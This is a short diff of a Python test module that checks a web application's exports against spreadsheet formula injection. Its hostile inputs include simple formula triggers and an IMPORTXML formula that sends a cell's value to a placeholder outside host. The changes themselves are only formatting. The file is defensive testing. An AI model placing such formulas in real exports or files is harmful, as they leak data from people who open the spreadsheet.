@@ -42,7 +42,7 @@ HOSTILE_NAMES = [
     "\r=1+1",
 ]
 HOSTILE_CLIENT_NUMBERS = ["=1+2", "+3+4", "-5+6", "@A1"]
-HOSTILE_PROJECT = "=IMPORTXML(CONCAT(\"http://x.example/?\",A2),\"//a\")"
+HOSTILE_PROJECT = '=IMPORTXML(CONCAT("http://x.example/?",A2),"//a")'
 TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n")
 PLAIN_NUMBER = re.compile(r"[+-]?\d+(?:[.,]\d+)*")
 CSV_TYPES = ("text/csv", "text/tsv", "text/tab-separated-values")
@@ -194,7 +194,9 @@ def test_other_export_formats_are_not_offered(client_for, coordinator, export_fo
 
 
 def test_no_module_writes_csv_or_excel_around_the_export_helpers():
-    writers = re.compile(r"csv\.writer\(|csv\.DictWriter\(|Workbook\(|tablib|django_tables2\.export")
+    writers = re.compile(
+        r"csv\.writer\(|csv\.DictWriter\(|Workbook\(|tablib|django_tables2\.export"
+    )
     offenders = []
     for app in ("audit", "billing", "monitor", "participants", "projects", "waw"):
         for path in (Path(settings.BASE_DIR) / app).rglob("*.py"):
